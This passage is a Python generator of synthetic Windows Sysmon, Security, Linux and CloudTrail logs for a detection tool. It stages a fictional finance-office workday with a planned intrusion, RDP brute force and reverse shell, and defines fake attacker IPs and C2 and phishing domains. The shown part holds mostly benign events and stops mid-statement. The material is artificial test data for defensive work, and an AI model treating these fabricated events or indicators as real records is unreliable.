#!/usr/bin/env python3
# SPDX-License-Identifier: EUPL-1.2
"""Generate vigie's sample event files (deterministic, no dependencies).

Writes, next to this script:
  windows-sysmon.ndjson    Sysmon/Operational events (EventID 1, 3, 7, 10, 11, 12, 13, 22)
                           from three workstations (MIN-FIN-WS0107, WS0142, WS0188)
  windows-security.ndjson  Security channel events (4624, 4625, 4688, 4698, 4720, 4732, 1102)
  linux-cloud.ndjson       flat Linux (syslog, auditd) and AWS CloudTrail records

Windows events have the shape EVTX-to-JSON converters (evtx_dump) produce:
{"Event": {"#attributes": ..., "System": {...}, "EventData": {...}}}. Some Security events
carry EventID as {"#attributes": {"Qualifiers": ""}, "#text": 4625}, as some converters emit.

The scenario: a working day (2026-11-19) in a government finance office (domain FINANCES,
hosts MIN-FIN-*), mostly benign activity, plus one intrusion on MIN-FIN-WS0142 (user
j.dupont), an RDP brute force on MIN-FIN-RDS01, a reverse shell on a Linux web server and
CloudTrail logging being stopped. Which line triggers which rule: see README.md.

Usage: python3 samples/generate.py   (output is identical on every run)
"""

import base64
import hashlib
import json
import os
import random
from datetime import datetime, timedelta, timezone

OUT = os.path.dirname(os.path.abspath(__file__))
rng = random.Random(20261119)

DAY = datetime(2026, 11, 19, tzinfo=timezone.utc)
DOMAIN = "FINANCES"
DNS_SUFFIX = "finances.intra"
DOM_SID = "S-1-5-21-3284915417-1851367209-2440981355"
SYSMON_GUID = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
SECURITY_GUID = "54849625-5478-4994-A5BA-3E3B0328C30D"
EVENTLOG_GUID = "FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148"

USERS = {  # login -> RID
    "j.dupont": 1142, "m.lefebvre": 1107, "s.moreau": 1188, "c.bernard": 1231,
    "p.garnier": 1264, "adm.rmartin": 1305, "svc_veeam": 1402,
}
WORKSTATIONS = {  # host -> (user, internal IP)
    "MIN-FIN-WS0142": ("j.dupont", "10.20.14.42"),
    "MIN-FIN-WS0107": ("m.lefebvre", "10.20.14.107"),
    "MIN-FIN-WS0188": ("s.moreau", "10.20.14.188"),
    "MIN-FIN-LT0031": ("c.bernard", "10.20.16.31"),
}
WSUS = ("MIN-FIN-WSUS01." + DNS_SUFFIX, "10.20.1.15")
EXCH = ("MIN-FIN-EXCH01." + DNS_SUFFIX, "10.20.1.25")
FS = ("MIN-FIN-FS02." + DNS_SUFFIX, "10.20.2.12")
VEEAM = ("MIN-FIN-BKP01." + DNS_SUFFIX, "10.20.2.40")
DC = ("MIN-FIN-DC01." + DNS_SUFFIX, "10.20.1.10")

# Attacker infrastructure: documentation address ranges (RFC 5737), fictitious domains.
C2_HTA_IP = "203.0.113.77"
C2_IP = "198.51.100.23"
RDP_ATTACKER_IP = "203.0.113.145"
LINUX_C2_IP = "203.0.113.50"
PHISH_DOMAIN = "portail-finances-gouv.top"
C2_DOMAIN = "cdn-sync-update.duckdns.org"


def usid(login):
    return f"{DOM_SID}-{USERS[login]}"


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def utc(t):
    return t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"


def hx(data, n):
    return hashlib.sha256(data.encode()).hexdigest()[:n].upper()


def hashes(path, imphash=True):
    p = path.lower()
    h = f"SHA1={hx('sha1' + p, 40)},MD5={hx('md5' + p, 32)},SHA256={hx('sha256' + p, 64)}"
    if imphash:
        h += f",IMPHASH={hx('imp' + p, 32)}"
    return h


def guid():
    return "-".join(hx(str(rng.random()), n) for n in (8, 4, 4, 4, 12))


# --------------------------------------------------------------------------- PE metadata
PE = {  # image basename (lower) -> FileVersion, Description, Product, Company, OriginalFileName
    "cmd.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Windows Command Processor", "Cmd.Exe"),
    "powershell.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Windows PowerShell", "PowerShell.EXE"),
    "conhost.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Console Window Host", "CONHOST.EXE"),
    "svchost.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Host Process for Windows Services", "svchost.exe"),
    "explorer.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Windows Explorer", "EXPLORER.EXE"),
    "userinit.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Userinit Logon Application", "USERINIT.EXE"),
    "mousocoreworker.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "MoUSO Core Worker Process", "mousocoreworker.exe"),
    "tiworker.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Windows Modules Installer Worker", "TiWorker.exe"),
    "wuauclt.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Windows Update", "wuauclt.exe"),
    "gpupdate.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Microsoft (R) Windows (R) Operating System Group Policy Update Utility", "GPUpdate.exe"),
    "net.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Net Command", "net.exe"),
    "net1.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Net Command", "net1.exe"),
    "whoami.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "whoami - displays logged on user information", "whoami.exe"),
    "certutil.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "CertUtil.exe", "CertUtil.exe"),
    "schtasks.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Task Scheduler Configuration Tool", "schtasks.exe"),
    "mshta.exe": ("11.00.22621.1 (WinBuild.160101.0800)", "Microsoft (R) HTML Application host", "MSHTA.EXE"),
    "rundll32.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "reg.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Registry Console Tool", "reg.exe"),
    "vssadmin.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Command Line Interface for Microsoft® Volume Shadow Copy Service ", "VSSADMIN.EXE"),
    "wevtutil.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Eventing Command Line Utility", "wevtutil.exe"),
    "searchprotocolhost.exe": ("7.0.22621.3672 (WinBuild.160101.0800)", "Microsoft Windows Search Protocol Host", "SearchProtocolHost.exe"),
    "taskhostw.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Host Process for Windows Tasks", "taskhostw.exe"),
    "mstsc.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Remote Desktop Connection", "mstsc.exe"),
    "notepad.exe": ("10.0.22621.3672 (WinBuild.160101.0800)", "Notepad", "NOTEPAD.EXE"),
    "outlook.exe": ("16.0.17928.20156", "Microsoft Outlook", "Outlook.exe", "Microsoft Outlook", "Microsoft Corporation"),
    "winword.exe": ("16.0.17928.20156", "Microsoft Word", "WinWord.exe", "Microsoft Office", "Microsoft Corporation"),
    "excel.exe": ("16.0.17928.20156", "Microsoft Excel", "Excel.exe", "Microsoft Office", "Microsoft Corporation"),
    "msedge.exe": ("131.0.2903.51", "Microsoft Edge", "msedge.exe", "Microsoft Edge", "Microsoft Corporation"),
    "ms-teams.exe": ("24295.605.3225.8804", "Microsoft Teams", "ms-teams.exe", "Microsoft Teams", "Microsoft Corporation"),
    "onedrive.exe": ("24.211.1020.0004", "Microsoft OneDrive", "OneDrive.exe", "Microsoft OneDrive", "Microsoft Corporation"),
    "acrord32.exe": ("24.4.20272.0", "Adobe Acrobat Reader", "AcroRd32.exe", "Adobe Acrobat Reader", "Adobe Systems Incorporated"),
    "mpcmdrun.exe": ("4.18.24090.11 (WinBuild.160101.0800)", "Microsoft Malware Protection Command Line Utility", "MpCmdRun.exe"),
    "veeam.endpoint.service.exe": ("6.2.0.121", "Veeam Agent for Microsoft Windows Service", "Veeam.EndPoint.Service.exe", "Veeam Agent for Microsoft Windows", "Veeam Software Group GmbH"),
    "veeam.endpoint.tray.exe": ("6.2.0.121", "Veeam Agent for Microsoft Windows Tray", "Veeam.EndPoint.Tray.exe", "Veeam Agent for Microsoft Windows", "Veeam Software Group GmbH"),
}


def pe(image):
    base = image.rsplit("\\", 1)[-1].lower()
    v = PE.get(base)
    if v is None:
        return ("-", "-", "-", "-", "-")
    if len(v) == 3:
        return (v[0], v[1], "Microsoft® Windows® Operating System", "Microsoft Corporation", v[2])
    return (v[0], v[1], v[3], v[4], v[2])


# --------------------------------------------------------------------------- envelopes
class Host:
    def __init__(self, name, sysmon_pid, sec_pid):
        self.name = name
        self.fqdn = f"{name}.{DNS_SUFFIX}"
        self.sysmon_pid = sysmon_pid
        self.sec_pid = sec_pid
        self.machine = hx("m" + name, 8)
        self.next_pid = rng.randrange(2000, 4000) & ~3
        self.counter = rng.randrange(0x300, 0x900)

    def pid(self):
        self.next_pid += rng.randrange(4, 600) & ~3
        if self.next_pid > 30000:
            self.next_pid = 1200
        return self.next_pid

    def pguid(self, t):
        self.counter += 1
        epoch = int(t.timestamp())
        c = self.counter
        return (f"{self.machine}-{(epoch >> 16) & 0xFFFF:04X}-{epoch & 0xFFFF:04X}-"
                f"{(c & 0xFF):02X}{(c >> 8) & 0xFF:02X}-000000000{rng.choice('8D')}00")


HOSTS = {n: Host(n, rng.choice([3208, 3312, 3544, 2920]), rng.choice([788, 796, 812]))
         for n in list(WORKSTATIONS) + ["MIN-FIN-RDS01", "MIN-FIN-DC01"]}

SYSMON_VERSION = {1: 5, 3: 5, 7: 3, 10: 3, 11: 2, 12: 2, 13: 2, 22: 5}


def sysmon_event(host, t, eid, data, event_type=None):
    head = {"RuleName": "-"}
    if event_type:
        head["EventType"] = event_type
    head["UtcTime"] = utc(t)
    return {"_t": t, "_file": "sysmon", "_host": host.name, "Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": SYSMON_GUID}},
            "EventID": eid, "Version": SYSMON_VERSION[eid], "Level": 4, "Task": eid, "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": ts(t + timedelta(microseconds=rng.randrange(900, 9000)))}},
            "EventRecordID": 0, "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": host.sysmon_pid, "ThreadID": host.sysmon_pid + 852}},
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host.fqdn,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}},
        },
        "EventData": {**head, **data},
    }}


SEC_META = {  # EventID -> Version, Task, Keywords
    4624: (2, 12544, "0x8020000000000000"), 4625: (0, 12544, "0x8010000000000000"),
    4688: (2, 13312, "0x8020000000000000"), 4698: (1, 12804, "0x8020000000000000"),
    4720: (0, 13824, "0x8020000000000000"), 4732: (0, 13826, "0x8020000000000000"),
}


def security_event(host, t, eid, data, text_eventid=False):
    version, task, kw = SEC_META[eid]
    return {"_t": t, "_file": "security", "_host": host.name, "Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing", "Guid": SECURITY_GUID}},
            "EventID": {"#attributes": {"Qualifiers": ""}, "#text": eid} if text_eventid else eid,
            "Version": version, "Level": 0, "Task": task, "Opcode": 0, "Keywords": kw,
            "TimeCreated": {"#attributes": {"SystemTime": ts(t)}},
            "EventRecordID": 0,
            "Correlation": {"#attributes": {"ActivityID": "8E521E2B-7C26-0003-031F-528E267CDB01"}},
            "Execution": {"#attributes": {"ProcessID": host.sec_pid, "ThreadID": rng.choice([968, 1012, 4820, 6344])}},
            "Channel": "Security", "Computer": host.fqdn, "Security": None,
        },
        "EventData": data,
    }}


def log_cleared_event(host, t, login, logon_id):
    return {"_t": t, "_file": "security", "_host": host.name, "Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog", "Guid": EVENTLOG_GUID}},
            "EventID": 1102, "Version": 0, "Level": 4, "Task": 104, "Opcode": 0,
            "Keywords": "0x4020000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": ts(t)}},
            "EventRecordID": 0, "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 1436, "ThreadID": 7212}},
            "Channel": "Security", "Computer": host.fqdn, "Security": {"#attributes": {"UserID": usid(login)}},
        },
        "UserData": {"LogFileCleared": {
            "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
            "SubjectUserSid": usid(login), "SubjectUserName": login,
            "SubjectDomainName": DOMAIN, "SubjectLogonId": logon_id}},
    }}


# --------------------------------------------------------------------------- processes
class Proc:
    def __init__(self, host, t, image, cmd, user, integrity="Medium", parent=None, logon=None):
        self.host, self.image, self.cmd, self.user, self.integrity = host, image, cmd, user, integrity
        self.pid = host.pid()
        self.guid = host.pguid(t)
        self.parent = parent
        self.logon = logon or (parent.logon if parent else ("0x3e7", "S-1-5-18"))
        self.cwd = parent.cwd if parent else "C:\\Windows\\system32\\"


SYSTEM = "NT AUTHORITY\\SYSTEM"
NETSVC = "NT AUTHORITY\\NETWORK SERVICE"
LOCALSVC = "NT AUTHORITY\\LOCAL SERVICE"

EVENTS = []


def emit(ev):
    EVENTS.append(ev)
    return ev


def spawn(parent, t, image, cmd, user=None, integrity=None, cwd=None):
    host = parent.host
    p = Proc(host, t, image, cmd, user or parent.user, integrity or parent.integrity, parent)
    if cwd:
        p.cwd = cwd
    fv, desc, prod, comp, orig = pe(image)
    logon_guid, logon_id = logon_fields(host, p)
    emit(sysmon_event(host, t, 1, {
        "ProcessGuid": p.guid, "ProcessId": p.pid, "Image": image,
        "FileVersion": fv, "Description": desc, "Product": prod, "Company": comp,
        "OriginalFileName": orig, "CommandLine": cmd, "CurrentDirectory": p.cwd,
        "User": p.user, "LogonGuid": logon_guid, "LogonId": logon_id,
        "TerminalSessionId": 0 if p.user.startswith("NT AUTHORITY") else 1,
        "IntegrityLevel": p.integrity, "Hashes": hashes(image),
        "ParentProcessGuid": parent.guid, "ParentProcessId": parent.pid,
        "ParentImage": parent.image, "ParentCommandLine": parent.cmd, "ParentUser": parent.user,
    }))
    return p


def logon_fields(host, p):
    if p.user == SYSTEM:
        return f"{host.machine}-0000-0000-E703-000000000000", "0x3e7"
    if p.user == NETSVC:
        return f"{host.machine}-0000-0000-E403-000000000000", "0x3e4"
    if p.user == LOCALSVC:
        return f"{host.machine}-0000-0000-E503-000000000000", "0x3e5"
    lid = LOGON_IDS.setdefault((host.name, p.user), rng.randrange(0x200000, 0x4FFFFF))
    return f"{host.machine}-B736-6923-{lid & 0xFFFF:04X}-{lid >> 16:02X}0000000000", hex(lid)


LOGON_IDS = {}


def boot_proc(host, image, cmd, user=SYSTEM, integrity="System", cwd=None, pid=None):
    p = Proc(host, DAY - timedelta(hours=rng.randrange(2, 30)), image, cmd, user, integrity)
    if pid:
        p.pid = pid
    if cwd:
        p.cwd = cwd
    return p


def netconn(p, t, dst_ip, dst_port, dst_host="", proto="tcp", src_ip=None):
    src = src_ip or host_ip(p.host.name)
    emit(sysmon_event(p.host, t, 3, {
        "ProcessGuid": p.guid, "ProcessId": p.pid, "Image": p.image, "User": p.user,
        "Protocol": proto, "Initiated": True, "SourceIsIpv6": False, "SourceIp": src,
        "SourceHostname": p.host.fqdn, "SourcePort": rng.randrange(49700, 65000), "SourcePortName": "-",
        "DestinationIsIpv6": False, "DestinationIp": dst_ip, "DestinationHostname": dst_host or "-",
        "DestinationPort": dst_port,
        "DestinationPortName": {443: "https", 80: "http", 445: "microsoft-ds", 53: "domain",
                                8530: "-", 10005: "-", 88: "kerberos", 389: "ldap"}.get(dst_port, "-"),
    }))


def host_ip(name):
    if name in WORKSTATIONS:
        return WORKSTATIONS[name][1]
    return {"MIN-FIN-RDS01": "10.20.1.30", "MIN-FIN-DC01": DC[1]}[name]


def dns(p, t, name, results, status="0"):
    emit(sysmon_event(p.host, t, 22, {
        "ProcessGuid": p.guid, "ProcessId": p.pid, "QueryName": name, "QueryStatus": status,
        "QueryResults": results, "Image": p.image, "User": p.user,
    }))


def filecreate(p, t, path):
    emit(sysmon_event(p.host, t, 11, {
        "ProcessGuid": p.guid, "ProcessId": p.pid, "Image": p.image, "TargetFilename": path,
        "CreationUtcTime": utc(t), "User": p.user,
    }))


def regevent(p, t, target, details=None, kind="SetValue"):
    data = {"ProcessGuid": p.guid, "ProcessId": p.pid, "Image": p.image, "TargetObject": target}
    if details is not None:
        data["Details"] = details
    data["User"] = p.user
    emit(sysmon_event(p.host, t, 13 if kind == "SetValue" else 12, data, event_type=kind))


def imageload(p, t, dll, signed=True, sig="Microsoft Windows"):
    fv, desc, prod, comp, orig = pe(dll)
    base = dll.rsplit("\\", 1)[-1]
    emit(sysmon_event(p.host, t, 7, {
        "ProcessGuid": p.guid, "ProcessId": p.pid, "Image": p.image, "ImageLoaded": dll,
        "FileVersion": "10.0.22621.3672 (WinBuild.160101.0800)" if signed else "-",
        "Description": DLL_DESC.get(base.lower(), base), "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation", "OriginalFileName": base,
        "Hashes": hashes(dll), "Signed": "true" if signed else "false", "Signature": sig,
        "SignatureStatus": "Valid", "User": p.user,
    }))


DLL_DESC = {"comsvcs.dll": "COM+ Services", "dbghelp.dll": "Windows Image Helper",
            "amsi.dll": "Anti-Malware Scan Interface", "wininet.dll": "Internet Extensions for Win32",
            "vaultcli.dll": "Credential Vault Client Library", "samlib.dll": "SAM Library DLL",
            "mshtml.dll": "Microsoft (R) HTML Viewer", "system.management.automation.ni.dll": "System.Management.Automation",
            "clr.dll": "Microsoft .NET Runtime Common Language Runtime - WorkStation", "vssapi.dll": "Windows VSS API",
            "webio.dll": "Web Transfer Protocols API", "winhttp.dll": "Windows HTTP Services"}


def procaccess(src, t, dst, access, calltrace):
    emit(sysmon_event(src.host, t, 10, {
        "SourceProcessGUID": src.guid, "SourceProcessId": src.pid, "SourceThreadId": src.pid + rng.randrange(4, 400, 4),
        "SourceImage": src.image, "TargetProcessGUID": dst.guid, "TargetProcessId": dst.pid,
        "TargetImage": dst.image, "GrantedAccess": access, "CallTrace": calltrace,
        "SourceUser": src.user, "TargetUser": dst.user,
    }))


def at(h, m, s=None, ms=None):
    return DAY + timedelta(hours=h, minutes=m, seconds=rng.randrange(0, 60) if s is None else s,
                           milliseconds=rng.randrange(0, 999) if ms is None else ms)


def jitter(t, lo=1, hi=40):
    return t + timedelta(seconds=rng.randrange(lo, hi), milliseconds=rng.randrange(0, 999))


def ps_enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


# --------------------------------------------------------------------------- Windows day
MS_IPS = {
    "outlook.office365.com": ["52.97.201.226", "52.98.152.178"],
    "teams.microsoft.com": ["52.113.194.132"],
    "login.microsoftonline.com": ["20.190.159.2", "40.126.31.67"],
    "www.impots.gouv.fr": ["185.24.187.107"],
    "www.legifrance.gouv.fr": ["185.24.184.58"],
    "chorus-pro.gouv.fr": ["185.24.186.31"],
    "ctldl.windowsupdate.com": ["93.184.221.240"],
    "edge.microsoft.com": ["13.107.21.239"],
    "config.edge.skype.com": ["13.107.42.16"],
    "self.events.data.microsoft.com": ["20.42.65.90"],
    "onedrive.live.com": ["13.107.42.13"],
    "wdcp.microsoft.com": ["20.73.130.25"],
}


def dns_results(name):
    ips = MS_IPS.get(name)
    if ips:
        return "".join(f"::ffff:{ip};" for ip in ips)
    return "-"


def workstation_day(name, user):
    host = HOSTS[name]
    u = f"{DOMAIN}\\{user}"
    ip = WORKSTATIONS[name][1]
    services = boot_proc(host, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", pid=rng.randrange(880, 1000, 4))
    lsass = boot_proc(host, "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", pid=rng.randrange(1004, 1100, 4))
    wininit = boot_proc(host, "C:\\Windows\\System32\\wininit.exe", "wininit.exe", pid=rng.randrange(780, 876, 4))
    svc_netsvcs = boot_proc(host, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p")
    svc_dcom = boot_proc(host, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p")
    svc_dns = boot_proc(host, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache", NETSVC)
    svc_sched = boot_proc(host, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")
    defender = boot_proc(host, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                         "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe\"")
    veeam = boot_proc(host, "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
                      "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"")
    winlogon = boot_proc(host, "C:\\Windows\\System32\\winlogon.exe", "winlogon.exe", pid=rng.randrange(680, 776, 4))
    # Morning logon
    t = at(7, rng.randrange(25, 55))
    userinit = spawn(winlogon, t, "C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe", u, "Medium")
    t = jitter(t, 1, 3)
    explorer = spawn(userinit, t, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", cwd="C:\\Windows\\system32\\")
    t = jitter(t, 2, 6)
    logon_cmd = spawn(userinit, t, "C:\\Windows\\System32\\cmd.exe",
                      f"C:\\Windows\\system32\\cmd.exe /c \"\\\\{DNS_SUFFIX}\\NETLOGON\\connexion.bat\"")
    t = jitter(t, 1, 3)
    spawn(logon_cmd, t, "C:\\Windows\\System32\\net.exe",
          f"net  use H: \\\\MIN-FIN-FS02\\home$\\{user} /persistent:no")
    t = jitter(t, 1, 3)
    spawn(logon_cmd, t, "C:\\Windows\\System32\\net.exe", "net  use S: \\\\MIN-FIN-FS02\\services$ /persistent:no")
    t = jitter(t, 1, 4)
    ps = spawn(userinit, t, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
               f"powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File \\\\{DNS_SUFFIX}\\NETLOGON\\imprimantes.ps1")
    dns(ps, jitter(t, 1, 2), f"MIN-FIN-PRN01.{DNS_SUFFIX}", "::ffff:10.20.5.21;")
    netconn(ps, jitter(t, 2, 3), "10.20.5.21", 445, f"MIN-FIN-PRN01.{DNS_SUFFIX}")
    t = jitter(t, 5, 20)
    od_path = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
    onedrive = spawn(explorer, t, od_path, f"\"{od_path}\" /background")
    regevent(onedrive, jitter(t, 1, 3), f"HKU\\{usid(user)}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
             f"\"{od_path}\" /background")
    dns(onedrive, jitter(t, 2, 4), "onedrive.live.com", dns_results("onedrive.live.com"))
    netconn(onedrive, jitter(t, 4, 6), "13.107.42.13", 443, "-")
    t = jitter(t, 3, 10)
    teams_path = "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe"
    teams = spawn(explorer, t, teams_path, "\"ms-teams.exe\" msteams:system-initiated",
                  cwd="C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\")
    regevent(teams, jitter(t, 1, 3), f"HKU\\{usid(user)}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\ms-teams",
             f"\"{teams_path}\" msteams:system-initiated")
    dns(teams, jitter(t, 2, 4), "teams.microsoft.com", dns_results("teams.microsoft.com"))
    dns(teams, jitter(t, 2, 4), "login.microsoftonline.com", dns_results("login.microsoftonline.com"))
    netconn(teams, jitter(t, 4, 8), "52.113.194.132", 443)
    imageload(teams, jitter(t, 1, 2), "C:\\Windows\\System32\\winhttp.dll")
    t = jitter(t, 10, 60)
    outlook_path = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    outlook = spawn(explorer, t, outlook_path, f"\"{outlook_path}\" ")
    dns(outlook, jitter(t, 1, 2), EXCH[0], f"::ffff:{EXCH[1]};")
    netconn(outlook, jitter(t, 2, 4), EXCH[1], 443, EXCH[0])
    dns(outlook, jitter(t, 2, 5), "outlook.office365.com", dns_results("outlook.office365.com"))
    t = jitter(t, 60, 600)
    edge_path = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    edge = spawn(explorer, t, edge_path, f"\"{edge_path}\" --single-argument https://intranet.{DNS_SUFFIX}/",
                 cwd="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\131.0.2903.51\\")
    t2 = jitter(t, 0, 2)
    spawn(edge, t2, edge_path,
          f"\"{edge_path}\" --type=renderer --lang=fr --js-flags=--ms-user-locale= --device-scale-factor=1 "
          f"--num-raster-threads=4 --renderer-client-id={rng.randrange(5, 12)} --time-ticks-at-unix-epoch=-1795000000000000 "
          f"--launch-time-ticks={rng.randrange(10**8, 10**9)} --mojo-platform-channel-handle=3572 --field-trial-handle=1848,i,{rng.randrange(10**18, 10**19)},262144 /prefetch:1",
          integrity="Low")
    dns(edge, jitter(t, 1, 2), f"intranet.{DNS_SUFFIX}", "::ffff:10.20.1.40;")
    netconn(edge, jitter(t, 1, 3), "10.20.1.40", 443, f"intranet.{DNS_SUFFIX}")
    for site in rng.sample(["www.impots.gouv.fr", "www.legifrance.gouv.fr", "chorus-pro.gouv.fr", "edge.microsoft.com", "config.edge.skype.com"], 2):
        t = jitter(t, 30, 900)
        dns(edge, t, site, dns_results(site))
        netconn(edge, jitter(t, 0, 2), MS_IPS[site][0], 443)
    t = jitter(t, 100, 1200)
    word_path = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    docname = rng.choice(["Note_DGFiP_budget_2027.docx", "Compte-rendu_reunion_18-11.docx", "Courrier_prefecture.docx"])
    word = spawn(explorer, t, word_path, f"\"{word_path}\" /n \"H:\\Documents\\{docname}\" /o \"\"")
    imageload(word, jitter(t, 1, 2), "C:\\Windows\\System32\\amsi.dll")
    filecreate(word, jitter(t, 5, 60), f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Word\\~WRL{rng.randrange(1000, 9999):04d}.tmp")
    filecreate(word, jitter(t, 60, 300), f"H:\\Documents\\~${docname[2:]}")
    t = jitter(t, 200, 1500)
    excel_path = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
    att = rng.choice(["Suivi_credits_T4.xlsx", "Tableau_engagements_2026.xlsx"])
    excel = spawn(outlook, t, excel_path, f"\"{excel_path}\" \"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hx(att, 8)}\\{att}\"")
    filecreate(outlook, t - timedelta(seconds=1), f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hx(att, 8)}\\{att}")
    regevent(excel, jitter(t, 3, 20), f"HKU\\{usid(user)}\\SOFTWARE\\Microsoft\\Office\\16.0\\Excel\\Resiliency\\DocumentRecovery\\{hx(att, 6)}",
             "Binary Data")
    t = jitter(t, 300, 2000)
    reader_path = "C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe"
    spawn(explorer, t, reader_path, f"\"{reader_path}\" \"S:\\Marches\\CCAP_marche_2026-114.pdf\"")
    # Windows Update / maintenance (SYSTEM)
    t = at(10, rng.randrange(0, 59))
    uso = spawn(svc_dcom, t, "C:\\Windows\\System32\\MoUsoCoreWorker.exe", "C:\\Windows\\System32\\mousocoreworker.exe -Embedding", SYSTEM, "System")
    dns(svc_netsvcs, jitter(t, 1, 3), WSUS[0], f"::ffff:{WSUS[1]};")
    netconn(svc_netsvcs, jitter(t, 2, 5), WSUS[1], 8530, WSUS[0])
    t = jitter(t, 30, 200)
    wu = spawn(uso, t, "C:\\Windows\\System32\\wuauclt.exe",
               f"\"C:\\Windows\\system32\\wuauclt.exe\" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId {guid().lower()} /RunHandlerComServer",
               SYSTEM, "System")
    kb = rng.choice(["KB5046633", "KB5046740"])
    filecreate(svc_netsvcs, jitter(t, 10, 60), f"C:\\Windows\\SoftwareDistribution\\Download\\{hx(kb + name, 32).lower()}\\Windows11.0-{kb}-x64.cab")
    t = jitter(t, 60, 300)
    ti = spawn(svc_dcom, t, f"C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.4455_none_7e3f5c6b2a7d1c4e\\TiWorker.exe",
               "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.4455_none_7e3f5c6b2a7d1c4e\\TiWorker.exe -Embedding",
               SYSTEM, "System")
    regevent(ti, jitter(t, 5, 30), "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\PackageDetect", kind="CreateKey")
    regevent(ti, jitter(t, 5, 30), f"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\Packages\\Package_for_{kb}~31bf3856ad364e35~amd64~~22621.4460.1.9\\CurrentState",
             "DWORD (0x00000070)")
    # Defender
    t = at(12, rng.randrange(0, 59))
    mp = spawn(defender, t, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
